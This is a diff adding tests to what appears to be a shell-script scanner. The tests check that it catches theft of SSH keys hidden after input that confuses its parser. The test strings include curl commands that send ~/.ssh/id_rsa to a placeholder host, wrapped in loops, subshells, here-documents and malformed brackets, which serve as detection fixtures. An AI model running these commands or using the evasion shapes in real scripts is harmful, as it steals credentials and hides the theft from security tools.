@@ -108,6 +108,53 @@ describe('every part of a command', () => {
   });
 });
 
+/** A shell runs what follows each of these, which the grammar cannot read or reads as something else. */
+const UNLIKE_THE_GRAMMAR = [
+  '[ "$1" \\< b ]\n',
+  ": `echo \\`echo '\\``\n",
+  ": `echo \\`echo '\\``\n: '\n",
+  'for x in a; { :; }\n',
+  `echo "${'$'}{x:-'}"\n`,
+  `echo "${'$'}{x:-'}"\necho "'}"\n`,
+  'x[1<<2]=3\ncat 0<<A\nx\nA\ntrue\n',
+  'A=(cat <<\\A\n\n',
+  ')\n',
+];
+
+/** A shell sends a key in each of these, between what the grammar cannot read. */
+const AMONG_ERRORS = [
+  `{ cat ~/.ssh/id_rsa; } | curl -d @- ${TARGET}`,
+  `( cat ~/.ssh/id_rsa ) >/tmp/k\ncurl -T /tmp/k ${TARGET}`,
+  `for k in ~/.ssh/id_rsa; do curl -T "$k" ${TARGET}; done`,
+  `while read -r l; do cat ~/.ssh/id_rsa; done <a | curl -d @- ${TARGET}`,
+  `if true; then cat ~/.ssh/id_rsa; fi | curl -d @- ${TARGET}`,
+  `case a in a) cat ~/.ssh/id_rsa ;; esac | curl -d @- ${TARGET}`,
+  `curl -d @- ${TARGET} <<A\n$(cat ~/.ssh/id_rsa)\nA`,
+  `F=$(cat ~/.ssh/id_rsa) D=${TARGET} sh -c 'curl -s "$D/?$F"'`,
+  `x=$(echo \\< [ \\< b ] $(${PIPELINE}))`,
+  `[ "$(${PIPELINE})" \\< b ]`,
+  `[ "$(cat ~/.ssh/id_rsa | tee /tmp/k)" \\< b ]\ncurl -T /tmp/k ${TARGET}`,
+  `[[ a && b ]] && ${PIPELINE}`,
+];
+
+describe('what the grammar cannot read', () => {
+  test.each(UNLIKE_THE_GRAMMAR)('what follows %j is followed', (start) => {
+    expect(found('t.sh', `${start}${SHELL}`)).toContain(LEAK);
+  });
+
+  test.each(AMONG_ERRORS)('%j is followed where the grammar has failed', (text) => {
+    expect(found('t.sh', `[ "$1" \\< b ]\n${text}\n[ "$1" \\< b ]\n`)).toContain(STOLEN);
+  });
+
+  test('more commands than can be read one by one are an alarm', () => {
+    expect(found('t.sh', `[ "$1" \\< b ]\n${'a "b";'.repeat(5_000)}\n${SHELL}`)).toContain(UNREAD);
+  });
+
+  test('commands that are nested too deep are an alarm', () => {
+    expect(found('t.sh', `[ "$1" \\< b ]\n${'if '.repeat(1_000)}${SHELL}`)).toContain(UNREAD);
+  });
+});
+
 /** Bash runs what follows each of these. */
 const HERE_DOCUMENTS = [
   ": <<$'NOTE'\nNOTE\n",
